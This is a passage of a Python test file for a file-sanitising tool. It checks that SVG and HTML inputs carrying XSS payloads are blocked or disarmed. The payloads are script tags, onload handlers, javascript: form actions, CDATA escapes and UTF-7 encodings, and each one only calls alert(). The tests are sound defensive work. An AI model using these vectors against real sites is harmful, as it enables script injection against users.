    assert report.verdict is Verdict.DISARMED, report.reason
    assert b"<script" not in out.read_bytes()


def test_svg_root_in_the_xhtml_namespace_is_refused(tmp_path: Path) -> None:
    """<svg xmlns="http://www.w3.org/1999/xhtml"> is an XHTML page (its form ran
    javascript: on a click in Chromium), not a drawing: nothing of it is delivered."""
    payload = (f'<svg {_H}><form action="javascript:alert(document.URL)">'
               "<button>Click me</button></form></svg>").encode()
    report, out = run(tmp_path, payload, "x.svg")
    assert report.verdict is Verdict.BLOCKED and not out.exists()
    assert report.reason == ("not an SVG drawing: its root element is in the namespace "
                             "'http://www.w3.org/1999/xhtml'")


@pytest.mark.parametrize(("payload", "removed", "text"), [
    # PayloadsAllTheThings' SVG_XSS1.svg and SVG_XSS2.svg: CDATA "closing" the element
    (b"<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>", set(),
     "</desc><script>alert(1)</script>"),
    (b"<svg><foreignObject><![CDATA[</foreignObject><script>alert(2)</script>]]></svg>",
     {("svg.foreign_object", "foreignObject[0]")}, ""),
    # a DOCTYPE without entities (as many editors write) and an unclosed element
    (b'<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
     b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg xmlns='
     b'"http://www.w3.org/2000/svg"><text>\xe5\xb8\x82\xe5\xbd\xb9\xe6\x89\x80</text>'
     b'<g><script>alert(3)</script></svg>', {("svg.script", "script[0]")}, "市役所"),
])
def test_svg_not_well_formed_is_rebuilt(tmp_path: Path, payload: bytes,
                                        removed: set[tuple[str, str]], text: str) -> None:
    """Was blocked as not well-formed; now rebuilt as libxml2's recovery reads it."""
    with pytest.raises(lxml.etree.XMLSyntaxError):
        lxml.etree.fromstring(payload)  # no viewer shows the original
    report, out = run(tmp_path, payload, "x.svg")
    assert report.verdict is (Verdict.DISARMED if removed else Verdict.CLEAN)
    assert keys(report) == removed | {("svg.repaired", "")}
    assert svg_problems(out) == []
    root = lxml.etree.parse(str(out)).getroot()  # well-formed now
    assert "".join(root.itertext()) == text
    assert not [el for el in root.iter() if isinstance(el.tag, str)
                and el.tag.rsplit("}", 1)[-1] in ("script", "foreignObject")]


@pytest.mark.parametrize("payload", [
    b"<svg:svg>x</svg:svg>",  # recovered, but the root is <svg:svg> in no namespace
    b'<!DOCTYPE svg [<!ENTITY x "y">]><svg><text>&x;</svg>',  # entities and not well-formed
])
def test_svg_beyond_recovery_stays_blocked(tmp_path: Path, payload: bytes) -> None:
    report, out = run(tmp_path, payload, "x.svg")
    assert report.verdict is Verdict.BLOCKED
    assert (report.reason or "").startswith("SVG ")
    assert not out.exists()


@pytest.mark.parametrize("encoding", ["utf-16", "utf-8"])
def test_svg_in_utf16_or_behind_a_comment_is_svg(tmp_path: Path, encoding: str) -> None:
    """Both were delivered untouched (UTF-16: taken for text) or emptied (a leading
    comment made it HTML, and the HTML stage drops <svg> with its content)."""
    svg = (f'<?xml version="1.0" encoding="{encoding.upper()}"?>\n' if encoding == "utf-16"
           else "") + ('<!-- Created with Inkscape -->\n<svg xmlns="http://www.w3.org/2000/svg">'
                       "<text>市役所</text><script>alert(1)</script></svg>")
    report, out = run(tmp_path, svg.encode(encoding), "map.svg")
    assert report.input.type == "svg" and report.verdict is Verdict.DISARMED
    assert keys(report) == {("svg.script", "script[0]")}
    assert svg_problems(out) == []
    assert "".join(lxml.etree.parse(str(out)).getroot().itertext()) == "市役所"


#: how Adobe Illustrator writes SVG: namespace URIs declared as entities
ILLUSTRATOR = b"""<?xml version="1.0" encoding="utf-8"?>
<!-- Generator: Adobe Illustrator 15.0.0, SVG Export Plug-In  -->
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [
	<!ENTITY ns_extend "http://ns.adobe.com/Extensibility/1.0/">
	<!ENTITY ns_ai "http://ns.adobe.com/AdobeIllustrator/10.0/">
	<!ENTITY ns_graphs "http://ns.adobe.com/Graphs/1.0/">
]>
<svg version="1.1" xmlns:x="&ns_extend;" xmlns:i="&ns_ai;" xmlns:graph="&ns_graphs;"
	xmlns="http://www.w3.org/2000/svg" width="200" height="80" viewBox="0 0 200 80">
<!-- &ns_ai; in a comment is text -->
<text x="10" y="40" i:knockout="Off">\xe5\xb8\x82\xe5\xbd\xb9\xe6\x89\x80 &amp; &#x753A;</text>
<script><![CDATA[alert(1)]]></script>
</svg>
"""


def test_illustrator_svg_keeps_its_namespaces(tmp_path: Path) -> None:
    """Entities with plain-text values are replaced by their text, so the namespace
    declarations that Illustrator spells with entities survive the DTD's removal."""
    report, out = run(tmp_path, ILLUSTRATOR, "logo.svg")
    assert report.verdict is Verdict.DISARMED
    assert keys(report) == {("xml.dtd", "!DOCTYPE"), ("svg.script", "script[0]")}
    assert report.items[0].findings[0].detail == \
        "declares XML entities; 3 entity reference(s) replaced by their text"
    tree = lxml.etree.parse(str(out), lxml.etree.XMLParser(resolve_entities=False))
    assert tree.docinfo.doctype == ""
    root = tree.getroot()
    text = root.find("{http://www.w3.org/2000/svg}text")
    assert text is not None and text.text == "市役所 & 町"
    assert text.get("{http://ns.adobe.com/AdobeIllustrator/10.0/}knockout") == "Off"
    assert svg_problems(out) == []


@pytest.mark.slow
def test_corpus_html_svg(tmp_path: Path) -> None:
    files = sorted(p for p in (corpus_dir() / "e_html_svg").rglob("*") if p.is_file())
    expected_blocked: dict[str, str] = {}  # SVG_XSS2/3.svg, not well-formed: rebuilt
    blocked = {}
    for path in files:
        out = tmp_path / path.name
        report = process_file(path, out, policy=DEFAULT)
        if report.verdict.delivered and path.suffix == ".mhtml":
            continue  # a MIME web archive: the mail stage's tests check those
        if report.verdict.delivered:
            assert report.output is not None
            check = svg_problems if report.output.type == "svg" else html_problems
            assert check(out) == [], path.name
        else:
            blocked[path.name] = report.reason or ""
    assert {k: v.split(" (")[0] for k, v in blocked.items()} == expected_blocked


def test_svg_declared_in_utf7_is_cleaned_not_an_internal_error(tmp_path: Path) -> None:
    """The XML parser reads no multi-byte encoding but UTF-8 and UTF-16 and raised
    ValueError for UTF-7: an internal error. The drawing is read as UTF-8 and cleaned
    (here its <script> tag is spelled with a base64 block, as UTF-7 allows)."""
    svg = ('<?xml version="1.0" encoding="UTF-7"?><svg xmlns="http://www.w3.org/2000/svg" '
           'onload="alert(1)"><script>alert(2)</script><text>関所</text></svg>')
    data = svg.encode("utf-7").replace(b"<script>", b"<+AHM-cript>")
    report, out = run(tmp_path, data, "drawing.svg")
    assert report.verdict is Verdict.DISARMED, report.reason
    assert keys(report) == {("svg.event_handler", "svg[root]@onload"),
                            ("svg.script", "script[0]")}
    assert svg_problems(out) == []
    assert "関所".encode() in out.read_bytes()


@pytest.mark.parametrize("charset", ["undefined", "punycode"])
def test_html_charset_that_fails_in_its_own_way(tmp_path: Path, charset: str) -> None:
    """Found by fuzzing: <meta charset="undefined"> raised UnicodeError (not
    UnicodeDecodeError) while the page was decoded: an internal error."""
    page = (f'<html><head><meta charset="{charset}"></head><body><p>市役所'
            "</p><script>alert(1)</script></body></html>").encode()
    report, out = run(tmp_path, page, "page.html")
    assert report.verdict is Verdict.DISARMED, report.reason
    assert "市役所" in out.read_bytes().decode("utf-8")
    assert html_problems(out) == []
